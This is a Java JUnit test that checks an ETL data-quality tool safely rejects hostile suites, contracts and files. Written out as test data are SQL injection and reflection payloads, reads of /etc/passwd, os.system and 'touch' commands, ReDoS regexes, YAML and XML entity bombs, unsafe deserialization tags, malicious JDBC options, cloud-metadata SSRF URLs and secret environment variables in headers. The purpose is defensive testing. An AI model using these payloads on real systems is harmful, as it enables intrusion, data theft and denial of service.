package vn.kho.etl.jobs;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.kho.etl.jobs.HostileHome.local;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Suites, contracts and deliveries that try to run code, read files, reach hosts or take all time
 * and memory. All are loaded in one night with a good dataset: that one is published, each of the
 * others ends with a sentence of its own, nobody knocks at the listener, nothing is written.
 */
class HostileFilesTest {
  private static final String MARK = "kho-was-here";

  @TempDir Path folder;
  private final AtomicInteger knocks = new AtomicInteger();
  private final List<String> names = new ArrayList<>();
  private HttpServer listener;
  private HostileHome home;
  private TestLoad load;
  private String url;

  @BeforeEach
  void layOut() throws IOException {
    listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    listener.createContext(
        "/",
        exchange -> {
          knocks.incrementAndGet();
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    listener.start();
    url = "http://127.0.0.1:" + listener.getAddress().getPort();
    home = new HostileHome(folder);
    load = new TestLoad(folder, folder.resolve("kho"));
    load.set("content.contracts", folder.resolve("contracts"))
        .set("content.suites", folder.resolve("suites"))
        .set("content.code-lists", folder.resolve("code-lists"))
        .set("sources.location", folder.resolve("sources"))
        .set("http.attempts", "1");
    Files.createDirectories(folder.resolve("code-lists"));
    home.good("good");
  }

  @AfterEach
  void stop() {
    listener.stop(0);
  }

  @Test
  @Timeout(300)
  void noSuiteRunsCodeReadsAFileReachesAHostOrTakesAllTime() throws IOException {
    queries();
    conditions();
    patterns();
    schemas();
    suiteTexts();
    night();
  }

  @Test
  @Timeout(300)
  void noContractRunsCodeReadsAFileReachesAHostOrTakesAllTime() throws IOException {
    servers();
    contractQueries();
    contractTexts();
    night();
  }

  @Test
  @Timeout(300)
  void noDeliveryTakesAllTimeOrMemory() throws IOException {
    deliveries();
    night();
  }

  private void night() throws IOException {
    TestLoad.Answer night = load.run("--all");

    assertThat(night.status()).as(night.err()).isEqualTo(1);
    assertThat(night.dataset("trial.good").path("verdict").asText()).isEqualTo("published");
    assertThat(knocks).hasValue(0);
    assertThat(folder.resolve(MARK)).doesNotExist();
    assertThat(Path.of("/tmp", MARK)).doesNotExist();
    assertThat(night.err()).doesNotContain("\tat ").doesNotContain("root:x:0");
    for (String name : names) {
      JsonNode dataset = night.dataset("trial." + name);
      assertThat(dataset.path("verdict").asText()).as(dataset.toString()).isNotEqualTo("published");
      assertThat(dataset.toString())
          .doesNotContain("\\tat ")
          .doesNotContain("root:x:0")
          .doesNotContain("Exception:");
    }
  }

  private String next(String kind) {
    String name = kind + "_" + (names.size() + 1);
    names.add(name);
    return name;
  }

  private static String quoted(String text) {
    return "'" + text.replace("'", "''") + "'";
  }

  private void queries() throws IOException {
    for (String query :
        List.of(
            "DROP TABLE kho.trial.good",
            "INSERT INTO kho.trial.good VALUES ('x', 'y')",
            "INSERT OVERWRITE LOCAL DIRECTORY '" + folder.resolve(MARK) + "' SELECT 1",
            "CREATE TABLE kho.trial.other AS SELECT 1 AS a",
            "DELETE FROM kho.trial.good",
            "CALL kho.system.expire_snapshots('trial.good')",
            "SET spark.sql.runSQLOnFiles=true",
            "ADD JAR '" + url + "/x.jar'",
            "CREATE TEMPORARY FUNCTION f AS 'x.Y' USING JAR '" + url + "/x.jar'",
            "SELECT reflect('java.lang.Runtime', 'getRuntime')",
            "SELECT java_method('java.lang.System', 'getenv', 'PATH')",
            "SELECT try_reflect('java.lang.System', 'exit', 0)",
            "SELECT * FROM csv.`/etc/passwd`",
            "SELECT * FROM text.`/etc/passwd` WHERE value LIKE '%root%'",
            "SELECT * FROM json.`" + url + "/x`",
            "SELECT * FROM `/etc/passwd`",
            "SELECT * FROM {batch} WHERE code IN (SELECT value FROM text.`/etc/passwd`)",
            "WITH t AS (SELECT input_file_name() f) SELECT * FROM t",
            "SELECT TRANSFORM(code) USING 'touch /tmp/" + MARK + "' FROM {batch}",
            "SELECT * FROM kho.quality.quarantine",
            "SELECT * FROM range(100000000000)",
            "SELECT sum(a.id) FROM range(1000000) a",
            "SELECT repeat(code, 2000000000) FROM {batch}",
            "SELECT 1; DROP TABLE kho.trial.good",
            "SELECT " + "(".repeat(3_000) + "1" + ")".repeat(3_000),
            "SELECT 1 FROM {batch} WHERE " + "code = 'x' OR ".repeat(8_000) + "false")) {
      home.rule(
          next("query"),
          "{type: unexpected_rows_expectation, unexpected_rows_query: " + quoted(query) + "}");
    }
    for (String table : List.of("csv.`/etc/passwd`", "x WHERE reflect('a','b')=1", "ops.run")) {
      home.rule(
          next("query"),
          "{type: expect_table_row_count_to_equal_other_table, other_table_name: "
              + quoted(table)
              + "}");
    }
    home.rule(
        next("query"),
        "{type: expect_query_results_to_match_comparison, base_query: 'SELECT 1', comparison_query:"
            + " 'SELECT * FROM text.`/etc/passwd`'}");
    home.rule(
        next("query"),
        "{type: expect_query_value_to_be_between, query: 'SELECT version()', min_value: 1}");
  }

  private void conditions() throws IOException {
    for (String condition :
        List.of(
            "reflect('java.lang.System', 'getenv', 'PATH') = 'x'",
            "code IN (SELECT value FROM text.`/etc/passwd`)",
            "input_file_name() LIKE '%x%'",
            "EXISTS (SELECT * FROM ops.run)",
            "code RLIKE '(((a{1,1000}){1,1000}){1,1000})'",
            "true; DROP TABLE kho.trial.good")) {
      home.rule(next("condition"), condition(condition, "spark"));
    }
    for (String condition :
        List.of(
            "__import__('os').system('touch /tmp/" + MARK + "')",
            "@os.system('id')",
            "code == reflect('a', 'b')",
            "col('code').apply(eval) == 1",
            "(".repeat(20_000) + "code == 'A'" + ")".repeat(20_000),
            "not ".repeat(20_000) + "code == 'A'")) {
      home.rule(next("condition"), condition(condition, "pandas"));
    }
    home.rule(
        next("condition"),
        "{type: expect_column_values_to_not_be_null, column: code, row_condition: {type:"
            + " pass_through, pass_through_filter: \"reflect('a','b')\"}, condition_parser: spark}");
  }

  private static String condition(String condition, String parser) {
    return "{type: expect_column_values_to_be_in_set, column: other, value_set: ['1', '2'],"
        + " row_condition: "
        + quoted(condition)
        + ", condition_parser: "
        + parser
        + "}";
  }

  private void patterns() throws IOException {
    String long1 = "code,other\nA," + "a".repeat(50_000) + "!\n";
    for (String regex : List.of("(a+)+$", "(a|a?)+$", "^(a*)*b", "(.*)*x", "(a+)+\\1!")) {
      String name = next("pattern");
      home.rule(name, regex(regex));
      home.delivery(name + ".csv", long1);
    }
    for (String regex :
        List.of(
            "(".repeat(5_000) + "a" + ")".repeat(5_000),
            "((a{1,100000}){1,100000})",
            "a{1,99999999}",
            "((){9999}){9999}",
            "(a",
            "[" + "a-z&&[".repeat(5_000))) {
      home.rule(next("pattern"), regex(regex));
    }
    String name = next("pattern");
    home.rule(name, regex("x".repeat(3_000)));
    home.delivery(name + ".csv", "code,other\nA," + "x".repeat(1_000_000) + "y\nB,no\n");
    name = next("pattern");
    home.rule(
        name,
        "{type: expect_column_values_to_match_like_pattern, column: other, like_pattern:"
            + " '%a%a%a%a%a%a%a%a%a%b'}");
    home.delivery(name + ".csv", long1);
  }

  private static String regex(String regex) {
    return "{type: expect_column_values_to_match_regex, column: other, regex: "
        + quoted(regex)
        + "}";
  }

  private void schemas() throws IOException {
    for (String schema :
        List.of(
            "{$ref: '" + url + "/schema.json'}",
            "{$ref: 'file:///etc/passwd'}",
            "{$ref: 'classpath:/kho.json'}",
            "{$ref: 'other.json#/x'}",
            "{properties: {a: {items: {$ref: '" + url + "/x'}}}}",
            "{allOf: [{$dynamicRef: '" + url + "/x'}]}",
            "{$schema: '" + url + "/meta', type: object}",
            "{pattern: '((a{1,9999}){1,9999})'}",
            "{$ref: '#'}",
            "{type: 3}")) {
      home.rule(
          next("schema"),
          "{type: expect_column_values_to_match_json_schema, column: other, json_schema: "
              + schema
              + "}");
    }
  }

  private void suiteTexts() throws IOException {
    StringBuilder bomb = new StringBuilder("suite: x\na0: &a0 [x, x]\n");
    for (int i = 1; i < 40; i++) {
      bomb.append("a%1$d: &a%1$d [*a%2$d, *a%2$d]%n".formatted(i, i - 1));
    }
    for (String text :
        List.of(
            bomb.toString(),
            "suite: x\nexpectations: " + "[".repeat(50_000),
            "suite: x\nexpectations: " + "{a: ".repeat(5_000),
            "suite: x\nexpectations: &a [*a]",
            "suite: x\nexpectations: !!javax.script.ScriptEngineManager [!!java.net.URL ['"
                + url
                + "']]",
            "suite: x\nexpectations:\n- {type: expect_column_max_to_be_between, column: code,"
                + " max_value: "
                + "9".repeat(1_000_000)
                + "}",
            "suite: x\nparameters: {a: 9e999999999}\nexpectations:\n- {type:"
                + " expect_table_row_count_to_equal, value: {$PARAMETER: 'a * a'}}",
            "\u0000\u0001",
            "a".repeat(5_000_000))) {
      home.suiteText(next("suite"), text);
    }
  }

  private void servers() throws IOException {
    for (String jdbc :
        List.of(
            "jdbc:postgresql://db/x?socketFactory=x.Y&socketFactoryArg=" + url,
            "jdbc:postgresql://db/x?loggerFile=/tmp/" + MARK,
            "jdbc:mariadb://db/x?allowLocalInfile=true",
            "jdbc:mysql://db/x?autoDeserialize=true",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '" + url + "/x.sql'",
            "jdbc:sqlite:/etc/passwd",
            "jdbc:sqlite:../kho/warehouse/catalog.db",
            "jdbc:sqlite::memory:",
            "jdbc:sqlite:x.db?enable_load_extension=true")) {
      home.server(next("server"), custom(jdbc, "kho.table", "t"));
    }
    for (String query :
        List.of("DROP TABLE x", "SELECT 1; DROP TABLE x", "COPY t TO PROGRAM 'id'")) {
      home.server(next("server"), custom("jdbc:postgresql://127.0.0.1:1/x", "kho.query", query));
    }
    home.server(
        next("server"), custom("jdbc:postgresql://127.0.0.1:1/x", "kho.table", "t; DROP TABLE t"));
    for (String location :
        List.of(
            url + "/a.csv",
            url.replace("127.0.0.1", "localhost") + "/a.csv",
            url.replace("127.0.0.1", "0.0.0.0") + "/a.csv",
            url.replace("127.0.0.1", "2130706433") + "/a.csv",
            url.replace("127.0.0.1", "[::ffff:127.0.0.1]") + "/a.csv",
            "http://169.254.169.254/latest/meta-data.csv",
            "http://[::1]:1/a.csv")) {
      home.server(next("server"), "    type: api\n    location: '" + location + "'");
    }
    for (String variable : List.of("PATH", "AWS_SECRET_ACCESS_KEY", "KHO_SECRET_OTHER_KEY")) {
      home.server(
          next("server"),
          "    type: api\n    location: https://example.invalid/a.csv\n    customProperties:\n"
              + "      - {property: kho.headers, value: {Authorization: '${"
              + variable
              + "}'}}");
    }
    home.server(
        next("server"),
        "    type: api\n    location: http://example.invalid/a.csv\n    customProperties:\n"
            + "      - {property: kho.headers, value: {Authorization: '${KHO_SECRET_SO_THU_K}'}}");
  }

  private static String custom(String jdbc, String key, String value) {
    return "    type: custom\n    customProperties:\n      - {property: kho.url, value: "
        + quoted(jdbc)
        + "}\n      - {property: "
        + key
        + ", value: "
        + quoted(value)
        + "}";
  }

  private void contractQueries() throws IOException {
    for (String query :
        List.of(
            "DROP TABLE kho.trial.good",
            "SELECT count(*) FROM text.`/etc/passwd`",
            "SELECT reflect('java.lang.System', 'getenv', 'PATH')",
            "SELECT count(*) FROM ${table} WHERE java_method('a', 'b') = 'c'",
            "SELECT 1; SELECT 2")) {
      String name = next("quality");
      home.good(name);
      home.contract(
          name,
          local(name + ".csv", "csv"),
          "    quality: [{type: sql, query: " + quoted(query) + ", mustBe: 0}]");
    }
  }

  private void contractTexts() throws IOException {
    StringBuilder bomb = new StringBuilder("a0: &a0 [x, x]\n");
    for (int i = 1; i < 40; i++) {
      bomb.append("a%1$d: &a%1$d [*a%2$d, *a%2$d]%n".formatted(i, i - 1));
    }
    int at = 0;
    for (String text :
        List.of(
            bomb.toString(),
            "a: " + "[".repeat(50_000),
            "a: &a {b: *a}",
            "a: !!java.net.URL ['" + url + "']",
            "a: " + "9".repeat(1_000_000),
            "x".repeat(5_000_000))) {
      home.write("contracts/trial/broken" + at++ + ".yaml", text.getBytes(StandardCharsets.UTF_8));
    }
  }

  private void deliveries() throws IOException {
    byte[] zeros = new byte[1 << 20];
    home.delivered(next("file"), "xlsx", zip("xl/workbook.xml", zeros, 1_200));
    home.delivered(next("file"), "xlsx", workbook("<c r=\"ZZZZZZ1\"><v>1</v></c>"));
    home.delivered(next("file"), "xlsx", workbook("&lol;"));
    home.delivered(next("file"), "json", "[".repeat(200_000).getBytes(StandardCharsets.UTF_8));
    home.delivered(
        next("file"), "json", ("{\"a\":".repeat(100_000)).getBytes(StandardCharsets.UTF_8));
    home.delivered(
        next("file"),
        "json",
        ("[{\"code\": " + "9".repeat(2_000_000) + "}]").getBytes(StandardCharsets.UTF_8));
    home.delivered(
        next("file"), "csv", ("\"" + "a".repeat(30_000_000)).getBytes(StandardCharsets.UTF_8));
    home.delivered(next("file"), "csv", new byte[5_000_000]);
    home.delivered(next("file"), "csv", ",".repeat(3_000_000).getBytes(StandardCharsets.UTF_8));
    home.delivered(next("file"), "xls", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
  }

  private byte[] workbook(String cells) throws IOException {
    String entity = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY lol SYSTEM \"" + url + "/x\">]>";
    String head = cells.startsWith("&") ? entity : "<?xml version=\"1.0\"?>";
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      entry(
          zip,
          "[Content_Types].xml",
          "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>");
      entry(
          zip,
          "_rels/.rels",
          "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
      entry(
          zip,
          "xl/_rels/workbook.xml.rels",
          "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
      entry(
          zip,
          "xl/workbook.xml",
          "<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
      entry(
          zip,
          "xl/worksheets/sheet1.xml",
          head
              + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\">"
              + cells
              + "</row></sheetData></worksheet>");
    }
    return bytes.toByteArray();
  }

  private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(text.getBytes(StandardCharsets.UTF_8));
    zip.closeEntry();
  }

  private static byte[] zip(String name, byte[] block, int times) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      for (int i = 0; i < times; i++) {
        zip.write(block);
      }
      zip.closeEntry();
    }
    return bytes.toByteArray();
  }
}
